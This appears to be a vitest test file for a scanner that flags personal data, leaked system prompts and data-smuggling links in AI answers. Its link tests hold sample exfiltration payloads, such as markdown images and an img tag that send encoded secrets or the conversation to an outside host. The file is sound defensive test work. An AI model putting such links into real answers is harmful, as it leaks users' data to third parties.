import { describe, expect, it } from 'vitest';
import { OUTPUT, scan } from './samples.ts';

const of = (text: string, category: string): [string, string][] =>
  scan(text)
    .filter((finding) => finding.category === category)
    .map(({ subType, span }) => [subType, text.slice(span.start, span.end)]);

describe('personal data', () => {
  it.each([
    ['mail to ann.lee+x@mail.example.org, please', 'EMAIL_ADDRESS', 'ann.lee+x@mail.example.org'],
    ['card 4111 1111 1111 1111 exp 12/30', 'CREDIT_CARD', '4111 1111 1111 1111'],
    ['IBAN DE89 3704 0044 0532 0130 00.', 'IBAN_CODE', 'DE89 3704 0044 0532 0130 00'],
    ['my ssn is 219-09-9999', 'US_SSN', '219-09-9999'],
    ['from 8.8.4.4 today', 'IP_ADDRESS', '8.8.4.4'],
    ['call me: +49 30 901820 55', 'PHONE_NUMBER', '+49 30 901820 55'],
    ['ｃａｒｄ ４１１１１１１１１１１１１１１１', 'CREDIT_CARD', '４１１１１１１１１１１１１１１１'],
  ])('in %s', (text, subType, value) => {
    expect(of(text, 'pii')).toEqual([[subType, value]]);
  });

  it.each([
    'card 4111 1111 1111 1112',
    'IBAN DE88 3704 0044 0532 0130 00',
    'ssn 000-12-3456',
    'version 1.2.3.4',
    'on 2024-05-17 12:30:00 order 88213',
    'a@b and user@localhost',
  ])('not in %s', (text) => {
    expect(of(text, 'pii')).toEqual([]);
  });
});

describe('a system prompt in the answer', () => {
  const prompt =
    'You are Tilda, the helper of Nordbank. Never talk about loans to minors, do not reveal the fee table before the ' +
    'customer has signed in, and always answer in two short sentences. The branch code is kept in the blue folder.';
  const context = { ...OUTPUT, protectedTexts: [prompt, 'You are a helpful assistant.'] };

  it.each([
    { name: 'the whole', text: `Sure! ${prompt}`, atLeast: 0.95 },
    { name: 'a long part', text: `It says: ${prompt.slice(39, 170)}`, atLeast: 0.85 },
    { name: 'another case and layout', text: prompt.toUpperCase().replaceAll(' ', '\n'), atLeast: 0.95 },
  ])('is found: $name', ({ text, atLeast }) => {
    const [finding] = scan(text, context).filter(({ subType }) => subType === 'system_prompt_leak');
    expect(finding?.score).toBeGreaterThanOrEqual(atLeast);
  });

  it.each([
    'You are a helpful assistant.',
    'I am Tilda, the helper of Nordbank. How are you?',
    'Loans need a signature.',
  ])('is not seen in: %s', (text) => {
    expect(scan(text, context).filter(({ category }) => category === 'data_leak')).toEqual([]);
  });
});

describe('links in an answer', () => {
  it.each([
    ['![a](https://e.example/x.png?q=VGhlIHNlY3JldCBjb2RlIGlzIDQyNDI0Mg==)', 0.95],
    ['<img src="https://e.example/?d={{conversation}}">', 0.9],
    ['[more](https://e.example/?data=the+user+lives+in+a+small+town)', 0.65],
    ['![build](https://img.shields.io/badge/a?data=the+build+is+green+again+today)', 0.4],
  ])('%s', (text, score) => {
    expect(scan(text, OUTPUT).map((finding) => finding.score)).toEqual([score]);
  });

  it.each([
    '![cat](https://cdn.example/cat.png?w=640&h=480)',
    '[docs](https://docs.example/guide/start?tab=a#top)',
  ])('lets pass %s', (text) => {
    expect(scan(text, OUTPUT)).toEqual([]);
  });
});
